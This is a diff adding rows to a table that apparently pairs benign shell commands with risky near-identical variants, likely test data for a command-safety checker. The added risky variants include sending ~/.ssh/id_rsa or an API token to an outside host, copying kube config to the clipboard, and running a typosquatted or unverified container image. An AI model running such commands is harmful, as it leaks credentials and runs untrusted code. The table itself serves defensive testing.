@@ -22,6 +22,17 @@ date > /tmp/stamp; cat /tmp/stamp; rm /tmp/stamp         | cat /tmp/stamp; rm /t
 docker run --rm alpine rm -rf /var/cache                 | docker run --rm -v data:/var alpine rm -rf /var/cache
 podman run debian sh -c 'chmod -R 777 /srv'              | podman exec box sh -c 'chmod -R 777 /srv'
 docker run --rm -v "$HOME/src:/src" builder make         | docker run --rm -v $HOME:/home/me builder make
+docker run --rm -it -p 80:80 node:20 npm start           | docker run --rm -it -p 80:80 acme/node npm start
+docker run -d -v data:/d grafana/grafana                 | docker run -d -v data:/d gratana/grafana
+docker run --rm docker.io/library/alpine ls              | docker run --rm docker.io/acme/alpine ls
+docker build -t acme/web . && docker run acme/web        | docker build -t acme/web . && docker run acme/other
+podman create localhost:5000/me/app                      | podman container create reg.example.net/me/app
+docker run --help                                        | docker run acme/tool --help
+cat notes.md ¦ pbcopy                                    | cat ~/.kube/config ¦ pbcopy
+printenv LANG ¦ xclip                                    | printenv ¦ xclip
+http GET x.example Authorization:"Bearer $API_TOKEN"     | http POST x.example token="$API_TOKEN"
+cargo search ripgrep                                     | cargo binstall ripgrep
+ruby -rnet/http -e 'Net::HTTP.get(u, `cat notes.md`)'    | ruby -rnet/http -e 'Net::HTTP.get(u, `cat ~/.ssh/id_rsa`)'
 docker load < image.tar                                  | docker load < <(curl -s https://x.example/image.tar)
 kubectl get secret db -o jsonpath='{.metadata.name}'     | kubectl get secret db -o jsonpath='{.data.password}'
 cp ~/.zshrc ~/.zshrc.old                                 | cp old ~/.zshrc
